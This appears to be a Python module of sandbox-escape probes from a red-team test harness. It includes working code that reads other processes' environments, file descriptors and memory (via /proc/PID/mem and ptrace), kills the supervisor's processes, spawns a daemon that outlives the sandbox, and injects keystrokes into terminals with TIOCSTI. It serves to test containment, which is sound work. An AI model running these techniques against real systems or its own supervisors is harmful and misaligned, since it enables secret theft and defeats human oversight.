"""Other processes: their environments, memory and files; signals; what outlives its sandbox; the
supervisor's terminal."""

import ctypes
import fcntl
import glob
import os
import subprocess
import sys

from aarlab.redteam.inside import Hints, program, say, trying

_C = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH, WALL, TIOCSTI = 16, 17, 0x40000000, 0x5412


def _others(hints: Hints) -> list[int]:
    if hints["confined"]:  # outside a sandbox: to what was set up for it
        return [hints["victim"]]
    mine = {os.getpid()}
    seen = {int(n) for n in os.listdir("/proc") if n.isdigit()}
    return sorted((seen | {1, os.getppid(), hints["victim"]}) - mine)


@program("environments and command lines")
def environments(hints: Hints) -> None:
    """What every process that can be seen was started with, and holds open."""
    say(dict(os.environ))
    for pid in ["self", *_others(hints)]:
        for name in ("environ", "cmdline", "maps", "auxv", "stack"):
            with trying(), open(f"/proc/{pid}/{name}", "rb") as file:
                say(pid, name, file.read(4096))
        for fd in glob.glob(f"/proc/{pid}/fd/*"):
            with trying():
                say(fd, os.readlink(fd))
                if os.path.isfile(fd):
                    with open(fd, "rb") as file:
                        say(file.read(4096))


@program("inherited files")
def inherited(hints: Hints) -> None:
    """File descriptors that were left open for it."""
    for fd in range(3, 256):
        with trying():
            os.fstat(fd)
            say("inherited", fd, os.readlink(f"/proc/self/fd/{fd}"))
            say(os.pread(fd, 4096, 0))


@program("memory of others")
def memory(hints: Hints) -> None:
    """/proc/PID/mem, process_vm_readv and ptrace."""
    for pid in [hints["victim"]] if hints["confined"] else [hints["victim"], 1]:
        with trying(), open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                if "[stack]" in line or "[heap]" in line:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    mem.seek(start)
                    found = mem.read(min(end - start, 8 << 20))
                    at = found.find(b"AAR_SECRET")
                    say(
                        "own pid 1:" if pid == 1 else "read memory of",
                        pid,
                        found[max(at, 0) : at + 400] if at >= 0 else b"",
                    )
        # pid 1 is inside, and has no more rights than this
        if _C.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
            say("own pid 1: attached" if pid == 1 else "attached to", pid)
            os.waitpid(pid, WALL)  # it has stopped
            _C.ptrace(PTRACE_DETACH, pid, 0, 0)


@program("signals to the host")
def signals(hints: Hints) -> None:
    """SIGKILL to the supervisor's number and its children's."""
    for pid in hints["killable"]:
        with trying():
            os.kill(pid, 9)
            say("killed", pid)


@program("outliving the sandbox")
def orphan(hints: Hints) -> None:
    """A daemon in a session of its own, with nothing of its parent's left open."""
    code = (
        "import os, time; os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0); "
        "time.sleep(600)"
    )
    null = subprocess.DEVNULL
    subprocess.run(
        [sys.executable, "-c", code, hints["marker"]],
        stdin=null,
        stdout=null,
        stderr=null,
        check=False,
    )
    say("left behind")


@program("typing into a terminal")
def terminal(hints: Hints) -> None:
    """TIOCSTI on all that could be the supervisor's terminal."""
    for path in (
        "/dev/tty",
        "/dev/console",
        "/proc/self/fd/0",
        "/proc/self/fd/1",
        *glob.glob("/dev/pts/*"),
    ):
        with trying(), open(path, "wb", 0) as file:
            for letter in b"#\n":
                fcntl.ioctl(file, TIOCSTI, bytes([letter]))
            say("typed into", path)
